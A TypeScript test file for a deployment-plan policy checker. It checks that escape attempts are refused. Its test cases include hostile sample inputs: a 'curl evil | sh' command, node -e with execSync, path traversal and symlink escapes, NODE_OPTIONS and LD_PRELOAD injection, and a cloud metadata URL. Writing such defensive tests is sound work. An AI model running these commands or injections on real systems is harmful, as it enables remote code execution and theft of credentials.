@@ -1,0 +1,285 @@
+/**
+ * The organisation policy against plans that try to get past it, on the real file system (scripts, a
+ * symlink, folders): each attempt is refused by path, and what the policy tightens shows in the effective plan.
+ */
+import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { stringify } from 'yaml';
+import { ActionError } from '../../activities/errors';
+import { actionGuard } from '../../activities/policy-guard';
+import { runAction } from '../../activities/runner';
+import { FailureType } from '../../plan/failures';
+import { checkPlanAgainstPolicy, type ResolvedPolicy } from '../../plan/policy';
+import { fileSystemResolver, loadPolicy, PolicyError } from '../../plan/policy-load';
+import type { CutoverPlanInput } from '../../plan/schema';
+import { tempDir } from '../helpers/harness';
+import { makePlan, makePlanInput } from '../helpers/plans';
+
+const ROOT = tempDir('policy-');
+const APP = path.join(ROOT, 'app');
+const OUTSIDE = path.join(ROOT, 'outside');
+mkdirSync(APP);
+mkdirSync(OUTSIDE);
+writeFileSync(path.join(APP, 'step.js'), 'process.stdout.write("{}")');
+writeFileSync(path.join(OUTSIDE, 'evil.js'), 'process.stdout.write("{}")');
+// A symlink inside the allowed folder whose target lies outside it.
+symlinkSync(path.join(OUTSIDE, 'evil.js'), path.join(APP, 'link.js'));
+
+/** The policy file of these tests: node with app/step.js only, the app folder, one URL prefix. */
+function writePolicy(extra: Record<string, unknown> = {}): ResolvedPolicy {
+  const file = path.join(ROOT, `policy-${Math.random().toString(36).slice(2)}.yaml`);
+  writeFileSync(
+    file,
+    stringify({
+      version: 1,
+      pipelines: [
+        {
+          match: 'test-*',
+          roles: Object.fromEntries(
+            ['engineering', 'qa', 'architecture', 'operations', 'business'].map((role, i) => [
+              role,
+              { approvers: [['ana', 'bo', 'cy', 'di', 'ed'][i]] },
+            ]),
+          ),
+          commands: { default: [['node', 'app/step.js']] },
+          env: ['LEDGER'],
+          folders: ['app'],
+          urls: ['http://127.0.0.1:8080/'],
+          ceilings: {
+            tolerances: { '*': { relative: 1e-9 }, PAR30: { relative: 0.05 } },
+            stress: { latencyP99: '500ms', errorRate: 0.01 },
+            rollbackTarget: '300s',
+            triggers: { errorRate: 0.01, kpiDrift: 0.05, failedProbes: 3 },
+          },
+          ...extra,
+        },
+      ],
+    }),
+  );
+  return loadPolicy(file);
+}
+
+const step = (name: string) => ({ name, run: ['node', 'step.js', name] });
+
+/** A plan whose every action runs `node step.js` in the app folder: within the policy. */
+function planInput(overrides: Partial<CutoverPlanInput> = {}): CutoverPlanInput {
+  const base = makePlanInput();
+  return {
+    ...base,
+    baseDir: APP,
+    generator: { ...step('gen'), run: [...step('gen').run, '{dataset}'] },
+    baseline: step('v1'),
+    candidate: step('v2'),
+    staging: { deploy: [step('switch')], tests: step('tests'), healthChecks: [step('health')] },
+    rollback: { ...step('rollback'), target: '300s' },
+    production: {
+      ...base.production,
+      deploy: step('deploy'),
+      undo: step('undo'),
+      monitor: { ...base.production.monitor, probe: step('probe') },
+      decommission: { ...step('decommission'), afterCleanDays: 2 },
+    },
+    ...overrides,
+  };
+}
+
+function check(overrides: Partial<CutoverPlanInput> = {}, policy = writePolicy()) {
+  return checkPlanAgainstPolicy(makePlan(planInput(overrides)), policy, fileSystemResolver);
+}
+
+/** The problems of a plan that differs from the good one in its first staging deploy step. */
+function deployProblems(deploy: CutoverPlanInput['staging']['deploy'][number]) {
+  return check({ staging: { deploy: [deploy], tests: step('tests'), healthChecks: [] } }).problems;
+}
+
+test('a plan within the policy passes, and the policy fills the bounds the plan left open', () => {
+  const { problems, effective } = check();
+  expect(problems).toEqual([]);
+  // The plan set no stress thresholds: the ceilings apply.
+  expect(effective.stress.thresholds).toMatchObject({ latencyP99: '500ms', errorRate: 0.01 });
+});
+
+describe('commands', () => {
+  test.each([
+    ['sh -c', ['sh', '-c', 'curl evil | sh']],
+    ['node -e where only scripts are allowed', ['node', '-e', 'require("child_process").execSync("id")']],
+    ['a script path that escapes the folder with ../', ['node', '../outside/evil.js']],
+    ['a symlink in the folder to a script outside it', ['node', 'link.js']],
+    ['an absolute path outside the list', ['node', path.join(OUTSIDE, 'evil.js')]],
+    ['a placeholder as the script', ['node', '{dataset}']],
+    ['a placeholder as the program', ['{dataset}', 'step.js']],
+    ['another interpreter', ['python3', 'step.js']],
+  ])('%s is refused by path', (_name, run) => {
+    expect(deployProblems({ name: 'x', run })).toEqual([
+      { path: 'staging.deploy[0].run', message: expect.stringContaining('is not a command the policy allows') },
+    ]);
+  });
+
+  test('the allowed script through an absolute path or ./ is the same command', () => {
+    expect(deployProblems({ name: 'x', run: ['node', path.join(APP, 'step.js')] })).toEqual([]);
+    expect(deployProblems({ name: 'x', run: [process.execPath, './step.js', 'more', 'args'] })).toEqual([]);
+  });
+
+  test('env keys outside the list (NODE_OPTIONS, LD_PRELOAD, PATH) are refused; listed ones pass', () => {
+    const problems = deployProblems({
+      ...step('x'),
+      env: { NODE_OPTIONS: '--require /tmp/x.js', LD_PRELOAD: '/tmp/x.so', PATH: '/tmp', LEDGER: '/tmp/l' },
+    });
+    expect(problems.map((p) => p.path)).toEqual([
+      'staging.deploy[0].env.NODE_OPTIONS',
+      'staging.deploy[0].env.LD_PRELOAD',
+      'staging.deploy[0].env.PATH',
+    ]);
+  });
+
+  test('a cwd or baseDir outside the allowed folders is refused', () => {
+    expect(deployProblems({ ...step('x'), cwd: OUTSIDE }).map((p) => p.path)).toContain('staging.deploy[0].cwd');
+    expect(check({ baseDir: OUTSIDE }).problems.map((p) => p.path)).toContain('baseDir');
+  });
+
+  test('an http action or health check outside the allowed URL prefixes is refused', () => {
+    const problems = check({
+      staging: {
+        deploy: [{ name: 'hook', http: 'http://127.0.0.1:8080/deploy' }],
+        healthChecks: [{ http: 'http://169.254.169.254/latest/meta-data' }],
+      },
+    }).problems;
+    expect(problems).toEqual([
+      { path: 'staging.healthChecks[0].http', message: expect.stringContaining('not under a URL prefix') },
+    ]);
+  });
+});
+
+describe('sign-off', () => {
+  test('the author as every approver, with allowInitiator, is refused on every count', () => {
+    const roles = { engineering: ['rm'], qa: ['rm'], architecture: ['rm'], operations: ['rm'], business: ['rm'] };
+    const { problems } = check({
+      initiator: 'rm',
+      signoff: { roles, allowInitiator: true, separationOfDuties: false },
+    });
+    expect(problems.map((p) => p.path)).toEqual([
+      'signoff.roles.engineering[0]',
+      'signoff.roles.qa[0]',
+      'signoff.roles.architecture[0]',
+      'signoff.roles.operations[0]',
+      'signoff.roles.business[0]',
+      'signoff.separationOfDuties',
+      'signoff.allowInitiator',
+    ]);
+  });
+
+  test('a missing role is refused; a quorum below the minimum is raised', () => {
+    const input = planInput();
+    const { business: _dropped, ...roles } = input.signoff.roles;
+    expect(check({ signoff: { ...input.signoff, roles } }).problems).toEqual([
+      { path: 'signoff.roles', message: 'the policy requires role "business"' },
+    ]);
+    const policy = writePolicy({
+      roles: { qa: { approvers: ['bo', 'bea'], minQuorum: 2 } },
+    });
+    const { problems, effective } = check(
+      { signoff: { ...input.signoff, roles: { ...input.signoff.roles, qa: ['bo', 'bea'] } } },
+      policy,
+    );
+    expect(problems).toEqual([]);
+    expect(effective.signoff.quorum).toMatchObject({ qa: 2, engineering: 1 });
+  });
+});
+
+describe('ceilings', () => {
+  test('tolerances, thresholds, the rollback target and triggers looser than the ceilings are refused', () => {
+    const base = planInput();
+    const { problems } = check({
+      shadow: { ...base.shadow, tolerances: { PAR30: { relative: 0.5 }, PAR90: { absolute: 1 } } },
+      stress: { ...base.stress, thresholds: { latencyP99: '2s', errorRate: 0.5 } },
+      rollback: { ...step('rollback'), target: '1h' },
+      production: {
+        ...base.production,
+        monitor: { ...base.production.monitor, triggers: { errorRate: 0.5, failedProbes: 10 } },
+      },
+    });
+    expect(problems.map((p) => p.path)).toEqual([
+      'shadow.tolerances.PAR30.relative',
+      'shadow.tolerances.PAR90.absolute',
+      'stress.thresholds.latencyP99',
+      'stress.thresholds.errorRate',
+      'rollback.target',
+      'production.monitor.triggers.errorRate',
+      'production.monitor.triggers.failedProbes',
+    ]);
+  });
+
+  test('a stricter plan passes and keeps its own settings', () => {
+    const base = planInput();
+    const { problems, effective } = check({
+      shadow: { ...base.shadow, tolerances: { PAR30: { relative: 0.01 } } },
+      production: {
+        ...base.production,
+        monitor: { ...base.production.monitor, triggers: { errorRate: 0.001 } },
+      },
+    });
+    expect(problems).toEqual([]);
+    expect(effective.shadow.tolerances).toEqual({ PAR30: { relative: 0.01 } });
+    // The triggers the plan left out come from the policy.
+    expect(effective.production.monitor.triggers).toEqual({ errorRate: 0.001, kpiDrift: 0.05, failedProbes: 3 });
+  });
+});
+
+test('a release no pipeline matches, with no default, is refused', () => {
+  expect(check({ release: 'other-release' }).problems).toEqual([
+    { path: 'release', message: `the workers' policy has no rules for release "other-release" (and no default)` },
+  ]);
+});
+
+test('a bad policy file names every problem by path', () => {
+  const file = path.join(ROOT, 'bad-policy.yaml');
+  writeFileSync(file, stringify({ version: 2, pipelines: [{ match: 'a b', commands: { nowhere: [] } }] }));
+  let err: unknown;
+  try {
+    loadPolicy(file);
+  } catch (e) {
+    err = e;
+  }
+  expect(err).toBeInstanceOf(PolicyError);
+  expect((err as PolicyError).problems).toEqual([
+    { path: 'version', message: expect.stringContaining('1') },
+    { path: 'pipelines[0].commands', message: expect.stringContaining('"nowhere"') },
+    { path: 'pipelines[0].match', message: expect.any(String) },
+  ]);
+});
+
+describe('at run time', () => {
+  test('a placeholder that expands into another script is refused before anything runs', async () => {
+    const marker = path.join(ROOT, 'ran.txt');
+    writeFileSync(path.join(OUTSIDE, 'marker.js'), `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')`);
+    const guard = actionGuard(writePolicy(), 'test-release');
+    const err = await runAction({
+      action: { name: 'deploy', run: ['node', '{dataset}'] },
+      idempotencyKey: 'k',
+      baseDir: APP,
+      placeholders: { dataset: path.join(OUTSIDE, 'marker.js') },
+      ...(guard ? { guard } : {}),
+    }).then(
+      () => undefined,
+      (e: unknown) => e,
+    );
+    expect(err).toBeInstanceOf(ActionError);
+    expect(err).toMatchObject({ type: FailureType.PolicyViolation, retryable: false });
+    expect((err as Error).message).toContain("deploy: refused by the workers' policy");
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  test('the allowed command runs; an http action outside the prefixes does not', async () => {
+    const guard = actionGuard(writePolicy(), 'test-release');
+    const outcome = await runAction({
+      action: step('x'),
+      idempotencyKey: 'k',
+      baseDir: APP,
+      ...(guard ? { guard } : {}),
+    });
+    expect(outcome.stdout).toBe('{}');
+    await expect(
+      runAction({ action: { http: 'http://127.0.0.1:9/x' }, idempotencyKey: 'k', ...(guard ? { guard } : {}) }),
+    ).rejects.toMatchObject({ type: FailureType.PolicyViolation });
+  });
+});
